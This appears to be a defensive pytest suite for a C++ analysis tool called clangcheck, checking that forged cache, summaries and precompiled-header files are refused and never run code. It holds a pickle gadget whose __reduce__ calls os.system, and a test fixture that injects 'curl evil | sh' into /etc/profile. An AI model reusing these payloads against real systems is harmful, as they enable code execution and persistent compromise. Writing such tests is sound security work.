"""Files we read back are data, never code: forged cache entries, summaries files and PCH records
are refused or recomputed, and nothing they hold can run (issue: no pickle from files)."""
from __future__ import annotations

import copy
import json
import os
import pickle
import re
from pathlib import Path

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from clangcheck import codec, pch, sealed
from clangcheck.cache import ContentHashes, ResultCache
from clangcheck.findings import Location
from clangcheck.summaries import SummaryFileError, read_summaries
from helpers import REPO, run_analysis, run_cli, write_database

CHECKS = "-*,clangcheck-errors-*,clangcheck-concurrency-*,clangcheck-ownership-*"


class RunsCode:
    """Unpickling this runs a shell command: what a forged file would carry."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def forged(magic: bytes, marker: Path) -> bytes:
    """A sealed file with a valid checksum whose payload runs code if unpickled."""
    payload = pickle.dumps(RunsCode(marker))
    assert b"system" in payload
    return sealed.seal(magic, payload)


def make_project(tmp_path: Path) -> Path:
    (tmp_path / "a.cpp").write_text(
        '#include <unistd.h>\n#include <thread>\nint counter;\n'
        'void bump() { ++counter; }\n'
        'void a(int fd) { write(fd, "a", 1); std::thread t(bump); ++counter; t.join(); }\n')
    (tmp_path / "b.cpp").write_text(
        '#include <cstdlib>\nstruct Holder { int *p; Holder() : p(new int(1)) {} ~Holder() {} };\n'
        'void b() { Holder h; char *x = (char *)malloc(4); if (!x) return; }\n')
    return write_database(tmp_path, [tmp_path / "a.cpp", tmp_path / "b.cpp"], ["-std=c++17", "-pthread"])


def entries(cache: Path) -> list[Path]:
    return sorted(cache.rglob("*.entry"))


@pytest.mark.parametrize("magic", [b"clangcheck-cache-1\n", b"clangcheck-cache-2\n"])
def test_forged_cache_entries_are_recomputed_and_run_nothing(tmp_path, magic):
    db, cache, marker = make_project(tmp_path), tmp_path / "cache", tmp_path / "ran"
    cold = run_analysis(db, checks=CHECKS, cache_dir=cache)
    assert len(entries(cache)) == 2 and cold.findings
    for entry in entries(cache):
        entry.write_bytes(forged(magic, marker))
    warm = run_analysis(db, checks=CHECKS, cache_dir=cache)
    assert not marker.exists()
    assert warm.cache_hits == 0 and warm.findings == cold.findings
    assert run_analysis(db, checks=CHECKS, cache_dir=cache).cache_hits == 2  # rewritten as data


@pytest.mark.parametrize("magic", [b"clangcheck-summaries-1\n", b"clangcheck-summaries-2\n"])
def test_forged_summaries_file_is_refused_by_merge_and_runs_nothing(tmp_path, magic):
    marker, evil = tmp_path / "ran", tmp_path / "evil.sum"
    evil.write_bytes(forged(magic, marker))
    sarif = tmp_path / "a.sarif"
    run_cli("analyze", str(REPO / "compile_commands" / "sockets"), "--sarif", str(sarif), "--no-cache")
    result = run_cli("merge", str(sarif), "--summaries", str(evil), "-o", str(tmp_path / "out.sarif"))
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert str(evil) in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert not marker.exists() and not (tmp_path / "out.sarif").exists()


def cached_entry(tmp_path: Path) -> tuple[ResultCache, Path, str, dict]:
    """A real entry of a.cpp, as the JSON data it holds."""
    db, cache = make_project(tmp_path), tmp_path / "cache"
    run_analysis(db, checks=CHECKS, cache_dir=cache)
    for path in entries(cache):
        data = json.loads(sealed.unseal(b"clangcheck-cache-2\n", path.read_bytes()))
        if data["result"]["file"].endswith("a.cpp"):
            return ResultCache(str(cache), "x"), path, data["result"]["file"], data
    raise AssertionError("no entry for a.cpp")


def canonical(data) -> bytes:
    """JSON as clangcheck writes it: compact, keys in the order given."""
    return msgspec.json.encode(data)


def reseal(data) -> bytes:
    return sealed.seal(b"clangcheck-cache-2\n", canonical(data))


def test_a_sound_entry_round_trips_with_shared_summaries(tmp_path):
    cache, _, main, data = cached_entry(tmp_path)
    decoded = cache._decode(reseal(data), main)
    assert decoded is not None
    _, result = decoded
    concurrency = [s for c, s in result.summaries if c.startswith("clangcheck-concurrency-")]
    assert len(concurrency) >= 2 and all(s is concurrency[0] for s in concurrency)  # one object, one graph
    assert result.findings and all(f.location.file == main for f in result.findings)


def test_entry_that_speaks_of_files_outside_its_tu_is_refused(tmp_path):
    cache, _, main, sound = cached_entry(tmp_path)
    data = copy.deepcopy(sound)
    data["result"]["findings"][0]["fixits"] = [{"title": "x", "safe": True, "replacements": [
        {"file": "/etc/profile", "offset": 0, "length": 0, "text": "curl evil | sh\n"}]}]
    assert cache._decode(reseal(data), main) is None
    data = copy.deepcopy(sound)
    data["stamps"].append({"path": "/etc/profile", "mtime_ns": 0, "size": 1, "sha256": "0" * 64})
    assert cache._decode(reseal(data), main) is None


def test_entry_of_another_tu_is_not_used(tmp_path):
    cache, _, main, data = cached_entry(tmp_path)
    assert cache._decode(reseal(data), main + ".other") is None


def test_pch_is_loaded_only_when_this_user_built_it(tmp_path, monkeypatch):
    monkeypatch.setattr(sealed, "_key", [])
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    prefix = tmp_path / "p.pch"
    prefix.write_bytes(b"a precompiled header")
    hashes = ContentHashes()
    pch._record(str(prefix), [], hashes)
    assert pch._still_valid(str(prefix), hashes)
    assert (tmp_path / "state" / "clangcheck" / "local.key").stat().st_mode & 0o077 == 0
    record = json.loads(Path(pch._stamp_file(str(prefix))).read_text())
    record["pch_sha256"] = "0" * 64  # a PCH swapped in with its checksum recomputed
    Path(pch._stamp_file(str(prefix))).write_text(json.dumps(record))
    assert not pch._still_valid(str(prefix), hashes)
    pch._record(str(prefix), [], hashes)
    monkeypatch.setattr(sealed, "_key", [b"k" * 32])  # a cache restored from someone else's machine
    assert not pch._still_valid(str(prefix), hashes)


def test_nothing_reads_pickles_but_the_worker_pipe():
    package = REPO / "clangcheck"
    hits = sorted(f"{p.relative_to(REPO)}:{n}" for p in package.rglob("*.py")
                  for n, line in enumerate(p.read_text().splitlines(), 1)
                  if re.search(r"pickle\.loads?\b|Unpickler|marshal\.loads?|shelve", line))
    assert [h.split(":")[0] for h in hits] == ["clangcheck/driver.py", "clangcheck/worker.py"], hits


# --- fuzzing: damaged or hostile payloads never give a traceback ------------------------------------
FUZZ = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
_SAMPLE: list = []


def sample_entry(tmp_path_factory) -> tuple[ResultCache, str, dict]:
    if not _SAMPLE:
        cache, _, main, data = cached_entry(tmp_path_factory.mktemp("entry"))
        _SAMPLE.append((cache, main, data))
    return _SAMPLE[0]


def paths_in(data, prefix=()):
    """Every place in a JSON value: (path of keys and indexes)."""
    yield prefix
    if isinstance(data, dict):
        for key, value in data.items():
            yield from paths_in(value, (*prefix, key))
    elif isinstance(data, list):
        for i, value in enumerate(data):
            yield from paths_in(value, (*prefix, i))


def replaced(data, path, value):
    if not path:
        return value
    copy = dict(data) if isinstance(data, dict) else list(data)
    copy[path[0]] = replaced(data[path[0]], path[1:], value)
    return copy


hostile = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(1 << 70), max_value=1 << 70), st.floats(), st.text(max_size=20),
    st.just([[]] * 3), st.just({"extra": 1}), st.builds(lambda n: [0] * n, st.integers(0, 5)),
    st.just(list(range(1_000_001))),
)


def decode_or_refuse(cache: ResultCache, main: str, blob: bytes) -> None:
    decoded = cache._decode(blob, main)
    assert decoded is None or decoded[1].file == main


@FUZZ
@given(choice=st.integers(min_value=0), value=hostile)
def test_any_value_anywhere_in_an_entry(tmp_path_factory, choice, value):
    cache, main, data = sample_entry(tmp_path_factory)
    places = list(paths_in(data))
    decode_or_refuse(cache, main, reseal(replaced(data, places[choice % len(places)], value)))


@FUZZ
@given(choice=st.integers(min_value=0), name=st.text(min_size=1, max_size=10))
def test_extra_fields_anywhere_in_an_entry(tmp_path_factory, choice, name):
    cache, main, data = sample_entry(tmp_path_factory)
    dicts = [p for p in paths_in(data) if isinstance(_at(data, p), dict)]
    place = dicts[choice % len(dicts)]
    target = dict(_at(data, place))
    target.setdefault(name, 0) if name not in target else target.pop(name)
    decode_or_refuse(cache, main, reseal(replaced(data, place, target)))


def _at(data, path):
    for key in path:
        data = data[key]
    return data


@FUZZ
@given(cut=st.integers(min_value=0))
def test_truncated_entries(tmp_path_factory, cut):
    cache, main, data = sample_entry(tmp_path_factory)
    payload = canonical(data)
    decode_or_refuse(cache, main, sealed.seal(b"clangcheck-cache-2\n", payload[: cut % len(payload)]))


def test_deep_nesting_and_huge_lists(tmp_path_factory, tmp_path):
    cache, main, data = sample_entry(tmp_path_factory)
    deep = b"[" * 200_000 + b"]" * 200_000
    decode_or_refuse(cache, main, sealed.seal(b"clangcheck-cache-2\n", deep))
    # deep inside the one field typed as any data, where the schema cannot stop the parser early
    holder = canonical(replaced(data, ("result", "summaries"), [["x", "DEEP"]]))
    assert cache._decode(sealed.seal(b"clangcheck-cache-2\n", holder.replace(b'"DEEP"', deep)), main) is None
    decode_or_refuse(cache, main, reseal(replaced(data, ("stamps",), [data["stamps"][0]] * 1_000_001)))
    decode_or_refuse(cache, main, sealed.seal(b"clangcheck-cache-2\n", b'{"version":2,"stamps":1' + b"9" * 5000 + b"}"))
    summaries = tmp_path / "deep.sum"
    summaries.write_bytes(sealed.seal(b"clangcheck-summaries-2\n", b'{"version":2,"tool":"0.1.0","summaries":' + deep + b"}"))
    with pytest.raises(SummaryFileError) as refused:
        read_summaries(str(summaries))
    assert "\n" not in str(refused.value)


@FUZZ
@given(choice=st.integers(min_value=0), value=hostile)
def test_any_value_anywhere_in_a_summaries_file(tmp_path_factory, choice, value):
    _, _, data = sample_entry(tmp_path_factory)
    sound = {"version": 2, "tool": "0.1.0", "summaries": data["summaries"]}
    places = list(paths_in(sound))
    path = tmp_path_factory.mktemp("sum") / "s.sum"
    path.write_bytes(sealed.seal(b"clangcheck-summaries-2\n", canonical(replaced(sound, places[choice % len(places)], value))))
    try:
        read_summaries(str(path))
    except SummaryFileError as exc:
        assert "\n" not in str(exc) and str(path) in str(exc)


def test_schema_names_the_offending_value():
    with pytest.raises(codec.SchemaError, match=r"Expected `int`, got `str` - at `\$\.line`"):
        codec.loads(b'{"file":"a","line":"1","column":1}', Location)
    with pytest.raises(codec.SchemaError, match=r">= 0 - at `\$\.line`"):
        codec.loads(b'{"file":"a","line":-1,"column":1}', Location)
    assert codec.loads(b'{"file":"a","line":3,"column":1}', Location) == Location("a", 3, 1)


@pytest.mark.parametrize("blob", [
    b'{"file":"a","line":3,"column":1,"x":0}',   # an unknown field
    b'{"file":"a","line":3}',                    # a missing one
    b'{"file":"a","line":3,"line":3,"column":1}',  # a repeated one
    b'{"file": "a", "line": 3, "column": 1}',    # another writer's spelling
])
def test_only_what_clangcheck_writes_is_read_back(blob):
    with pytest.raises(codec.SchemaError):
        codec.loads(blob, Location)


def test_sound_entries_are_canonical(tmp_path):
    _, path, _, data = cached_entry(tmp_path)
    assert sealed.unseal(b"clangcheck-cache-2\n", path.read_bytes()) == canonical(data)
